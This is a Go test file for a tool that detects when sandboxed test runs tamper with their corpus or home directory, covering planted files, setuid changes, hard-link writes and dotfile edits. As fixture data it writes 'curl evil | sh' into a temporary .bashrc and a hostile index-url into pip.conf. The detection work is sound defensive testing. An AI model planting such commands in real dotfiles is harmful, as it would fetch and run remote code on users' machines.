package runner

import (
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"testing"
	"time"

	"github.com/cleanexit/cleanexit/internal/fswatch"
	"github.com/cleanexit/cleanexit/internal/seal"
	"github.com/cleanexit/cleanexit/runner/cases"
)

// TestUntouched: what a run does to the corpus or HOME is named once, when
// the kernel reports changes (Linux), by the full walk of a small corpus
// and by the quick check of a large one; a file touched but not changed is
// not named. A file rewritten with its size and time kept is named where
// the kernel reports the write, and only there.
func TestUntouched(t *testing.T) {
	for _, mode := range []struct {
		name  string
		watch bool
		limit int // fullWalkFiles; 0: every corpus counts as large
	}{{"watched", true, 300}, {"full", false, 300}, {"quick", false, 0}} {
		t.Run(mode.name, func(t *testing.T) {
			defer func(n int, w bool) { fullWalkFiles, watchCorpus = n, w }(fullWalkFiles, watchCorpus)
			fullWalkFiles, watchCorpus = mode.limit, mode.watch
			dir := t.TempDir()
			old, _ := os.Getwd()
			if err := os.Chdir(dir); err != nil {
				t.Fatal(err)
			}
			defer os.Chdir(old)
			write := func(p, s string) {
				os.MkdirAll(filepath.Dir(p), 0o777)
				if err := os.WriteFile(p, []byte(s), 0o666); err != nil {
					t.Fatal(err)
				}
			}
			write("corpus/esc/a.txtar", "a")
			write("corpus/esc/b.txtar", "b")
			write("home/.bashrc", "rc")
			home := filepath.Join(dir, "home")
			w, _ := fswatch.New()
			defer w.Close()
			u := watchUntouched([]*cases.Case{{File: "corpus/esc/a.txtar", Project: "esc"}}, home, w)
			if mode.watch && slices.ContainsFunc(u.seals, func(s *seal.Seal) bool { return !s.Watched() }) {
				t.Skipf("no watcher here (%s)", runtime.GOOS)
			}
			var disguised []string // a rewrite that kept size and time
			if mode.watch {
				disguised = []string{"corpus/esc/b.txtar"}
			}
			steps := []struct {
				name string
				do   func()
				want []string
			}{
				{"nothing", func() {}, nil},
				{"touched, same content", func() {
					later := time.Now().Add(time.Hour)
					os.Chtimes("corpus/esc/a.txtar", later, later)
				}, nil},
				{"made its own case unreadable", func() { os.Chmod("corpus/esc/a.txtar", 0o600) }, []string{"corpus/esc/a.txtar"}},
				{"made it setuid", func() { os.Chmod("corpus/esc/a.txtar", 0o600|fs.ModeSetuid) }, []string{"corpus/esc/a.txtar"}},
				{"appended to its own case", func() { write("corpus/esc/a.txtar", "a planted") }, []string{"corpus/esc/a.txtar"}},
				{"planted a case", func() { write("corpus/esc/planted.txtar", "x") }, []string{"corpus/esc/planted.txtar"}},
				{"planted a project", func() { write("corpus/newproj/c.txtar", "x") }, []string{"corpus/newproj/c.txtar"}},
				{"rewrote a case, keeping its size and time", func() {
					fi, _ := os.Stat("corpus/esc/b.txtar")
					write("corpus/esc/b.txtar", "B")
					os.Chtimes("corpus/esc/b.txtar", fi.ModTime(), fi.ModTime())
				}, disguised},
				{"removed a case", func() { os.Remove("corpus/esc/b.txtar") }, []string{"corpus/esc/b.txtar"}},
				{"edited .bashrc", func() { write("home/.bashrc", "curl evil | sh") }, []string{filepath.Join(home, ".bashrc")}},
				{"opened .bashrc to others", func() { os.Chmod("home/.bashrc", 0o666) }, []string{filepath.Join(home, ".bashrc")}},
				{"touched .bashrc, same content", func() {
					later := time.Now().Add(2 * time.Hour)
					os.Chtimes("home/.bashrc", later, later)
				}, nil},
				{"planted pip.conf", func() { write("home/.config/pip/pip.conf", "[global]") }, []string{filepath.Join(home, ".config/pip/pip.conf")}},
				{"edited pip.conf", func() { write("home/.config/pip/pip.conf", "[global]\nindex-url = evil") }, []string{filepath.Join(home, ".config/pip/pip.conf")}},
				{"a shell's history", func() { write("home/.bash_history", "ls") }, nil},
				{"linked .bashrc out of HOME", func() { os.Link("home/.bashrc", "bashrc-link") }, nil},
				{"wrote .bashrc through the link", func() {
					f, _ := os.OpenFile("bashrc-link", os.O_APPEND|os.O_WRONLY, 0)
					f.WriteString("curl evil | sh")
					f.Close()
				}, []string{filepath.Join(home, ".bashrc")}},
				{"removed .bashrc", func() { os.Remove("home/.bashrc") }, []string{filepath.Join(home, ".bashrc")}},
				{"a package build's output", func() { write("corpus/esc/pkg/build/x.o", "x") }, nil},
				// Only folders of those names are a build's: a file named
				// like one is the case's like any other.
				{"planted a file named dist", func() { write("corpus/esc/dist", "x") }, []string{"corpus/esc/dist"}},
				// A hard link out of the corpus is a path the watcher does
				// not see: a write through it, in a later run, makes no
				// event in the corpus.
				{"linked a case out of the corpus", func() { os.Link("corpus/esc/a.txtar", "outside-link") }, nil},
				{"wrote through the link", func() {
					f, _ := os.OpenFile("outside-link", os.O_APPEND|os.O_WRONLY, 0)
					f.WriteString("through the link")
					f.Close()
				}, []string{"corpus/esc/a.txtar"}},
				{"moved a case in from elsewhere", func() {
					write("outside.txtar", "x")
					os.Rename("outside.txtar", "corpus/esc/moved.txtar")
				}, []string{"corpus/esc/moved.txtar"}},
			}
			for _, st := range steps {
				time.Sleep(10 * time.Millisecond) // a folder's time must move
				st.do()
				if got := u.changed("corpus/esc/a.txtar"); !slices.Equal(got, st.want) {
					t.Errorf("%s: changed = %q, want %q", st.name, got, st.want)
				}
			}
		})
	}
}

// TestUntouchedCaseInHome: `cleanexit run ~/proj/case.txtar` makes HOME the
// case's corpus root. HOME is watched for its dotfiles alone, so the
// project folder is the tree: a case appending to its own file there is
// named, in every mode, by an absolute path as by a relative one.
func TestUntouchedCaseInHome(t *testing.T) {
	for _, watch := range []bool{true, false} {
		defer func(w bool) { watchCorpus = w }(watchCorpus)
		watchCorpus = watch
		home := t.TempDir()
		file := filepath.Join(home, "proj", "a.txtar")
		if err := os.MkdirAll(filepath.Dir(file), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte("a"), 0o666); err != nil {
			t.Fatal(err)
		}
		w, _ := fswatch.New()
		u := watchUntouched([]*cases.Case{{File: file, Project: "proj"}}, home, w)
		f, err := os.OpenFile(file, os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		f.WriteString("# planted\n")
		f.Close()
		if got := u.changed(file); !slices.Equal(got, []string{file}) {
			t.Errorf("watch=%v: changed = %q, want %q", watch, got, file)
		}
		w.Close()
	}
}

// With runs side by side, the one whose end sees a change cannot tell
// whether it or another run under way made it: each answers for it,
// naming the others, and a run that began after the change was seen, or
// ended before it was made, does not.
func TestUntouchedRunsBesideAnswerTogether(t *testing.T) {
	corpus := t.TempDir()
	file := filepath.Join(corpus, "p", "a.txtar")
	if err := os.MkdirAll(filepath.Dir(file), 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte("a"), 0o666); err != nil {
		t.Fatal(err)
	}
	u := watchUntouched([]*cases.Case{{File: file, Project: "p"}}, "", nil)
	u.begin("early")
	if paths, _ := u.end("early", file); paths != nil {
		t.Fatalf("nothing changed, but early answers for %q", paths)
	}
	u.begin("seer")
	u.begin("beside")
	planted := filepath.Join(corpus, "p", "planted.txtar")
	if err := os.WriteFile(planted, []byte("x"), 0o666); err != nil {
		t.Fatal(err)
	}
	paths, beside := u.end("seer", file)
	if !slices.Equal(paths, []string{planted}) || !slices.Equal(beside, []string{"beside"}) {
		t.Errorf("seer: paths %q beside %q, want %q beside [beside]", paths, beside, planted)
	}
	u.begin("late")
	paths, beside = u.end("beside", file)
	if !slices.Equal(paths, []string{planted}) || !slices.Equal(beside, []string{"seer"}) {
		t.Errorf("beside: paths %q beside %q, want %q beside [seer]", paths, beside, planted)
	}
	if paths, beside := u.end("late", file); paths != nil || beside != nil {
		t.Errorf("late began after the change was seen, but answers for %q beside %q", paths, beside)
	}
}
